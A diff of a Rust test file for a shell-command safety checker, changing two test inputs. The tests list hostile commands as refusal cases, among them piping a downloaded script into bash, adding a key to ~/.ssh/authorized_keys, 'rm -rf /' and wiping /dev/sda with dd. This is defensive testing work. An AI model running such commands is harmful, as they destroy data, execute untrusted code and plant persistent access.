@@ -51,7 +51,7 @@ fn a_hostile_part_is_refused_whatever_stands_beside_it() {
         "cat x | sh",
         "curl https://example.com/x | bash",
         "echo key >> ~/.ssh/authorized_keys",
-        "if true; then rm -rf build; fi",
+        "if true; then rm -rf src; fi",
         "echo `sudo id`",
         "(rm -rf /)",
         "true || dd if=/dev/zero of=/dev/sda",
@@ -223,7 +223,7 @@ fn findings_say_what_to_do() {
     assert!(finding.suggestion.is_some());
     assert_eq!(shell::check("sudo ls").expect_err("rights").rule, "shell-privilege");
     assert_eq!(shell::check("rm -rf x").expect_err("tree").rule, "shell-delete");
-    assert_eq!(shell::check("python -c x").expect_err("code").rule, "shell-code");
+    assert_eq!(shell::check("python -c 'import subprocess'").expect_err("code").rule, "shell-code");
 }
 
 proptest::proptest! {
